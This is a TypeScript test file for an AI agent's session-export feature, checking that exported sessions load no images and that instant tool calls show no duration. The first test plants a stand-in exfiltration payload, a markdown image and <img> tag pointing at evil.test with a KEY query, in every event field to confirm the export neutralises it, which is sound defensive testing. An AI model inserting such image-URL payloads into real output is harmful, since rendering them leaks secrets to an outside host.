import { marked } from 'marked';
import { expect, test } from 'vitest';

import { previewOf } from '../kernel/content.ts';
import type { Event, Recorded } from '../kernel/event.ts';
import type { CallId, EffectId } from '../kernel/ids.ts';
import { given, question, testTime } from '../testing/given.ts';
import { call, chat, created, reply, toolSettled } from '../testing/inputs.ts';
import { sessionDocument } from './session-document.ts';

const image = '![x](https://evil.test/?q=KEY) <img src="https://evil.test/?q=KEY">';

/** Every place of a session that holds words of somebody else. */
const hostile: readonly Event[] = [
  {
    type: 'model-settled',
    effect: 'ses_1.2' as EffectId,
    outcome: reply(image, [call('c1', image, {}, { args: JSON.stringify({ command: image }) })]),
  },
  { type: 'call-refused', call: 'c1' as CallId, code: 'policy', reason: image },
  {
    type: 'agent-reported',
    report: { type: 'tool-call', call: 'a', title: `fixture claims: ${image}`, state: 'completed' },
  },
  { type: 'agent-reported', report: { type: 'plan', entries: [{ text: image, state: 'pending' }] } },
  { type: 'agent-reported', report: { type: 'message', text: `An open fence:\n\`\`\`\n` } },
  { type: 'agent-reported', report: { type: 'message', text: `\`\`\`\n${image}\n\`\`\`` } },
  { type: 'agent-reported', report: { type: 'thought', text: `</details>${image}` } },
  {
    type: 'question-opened',
    about: {
      type: 'approval',
      call: 'a' as CallId,
      tool: 'web_fetch',
      unit: image,
      rule: image,
      reason: image,
      grants: [],
    },
  },
  { type: 'question-answered', question: question(10), answer: { type: 'text', text: image } },
  { type: 'turn-ended', ending: { type: 'failed', code: 'model-unavailable', message: image } },
];

test('[S18] an exported session loads nothing, whatever its texts contain', async () => {
  const { state } = given(created({ title: image }), chat(`Look at ${image}`));
  const prompt: Event = { type: 'prompt-received', request: { type: 'chat', text: image }, delivery: 'queue' };
  const events = [prompt, ...hostile].map((event, index): Recorded => ({
    seq: index + 2,
    at: testTime,
    by: { type: 'person', name: image },
    event,
  }));
  const parts: string[] = [];
  const read = async (body: unknown) => String(body);
  for await (const part of sessionDocument(state, events, read)) parts.push(part);
  const html = await marked.parse(parts.join(''));
  expect(parts.join('').split('evil.test').length).toBeGreaterThan(hostile.length);
  expect(html.match(/<img[^>]*>/g)).toBeNull();
});

test('[C149] a call that took no time is shown without one', async () => {
  const { state } = given(created({ title: 'Notes' }), chat('Read it'));
  const calls = [
    call('c1', 'read', {}, { args: '{"path":"a"}' }),
    call('c2', 'read', {}, { args: '{"path":"b"}' }),
  ];
  const intended = (id: string): Event => ({ type: 'tool-run-intended', call: id as CallId, repeat: 'safe' });
  const settled = (seq: number, id: string): Event => ({
    ...toolSettled(`ses_1.${seq}`),
    call: id as CallId,
  });
  const happened: readonly (readonly [number, Event])[] = [
    [0, { type: 'model-settled', effect: 'ses_1.2' as EffectId, outcome: reply('', calls) }],
    [0, intended('c1')],
    [0, intended('c2')],
    [20, settled(4, 'c1')],
    [2000, settled(5, 'c2')],
  ];
  const events = happened.map(([after, event], index): Recorded => ({
    seq: index + 3,
    at: testTime + after,
    by: { type: 'person', name: 'owner' },
    event,
  }));
  const parts: string[] = [];
  for await (const part of sessionDocument(state, events, async (body) => previewOf(body))) parts.push(part);
  const summaries = [...parts.join('').matchAll(/<summary>(.*)<\/summary>/g)].map(([, text]) => text);
  expect(summaries).toEqual(['✓ Read a', '✓ Read b (2.0s)']);
});
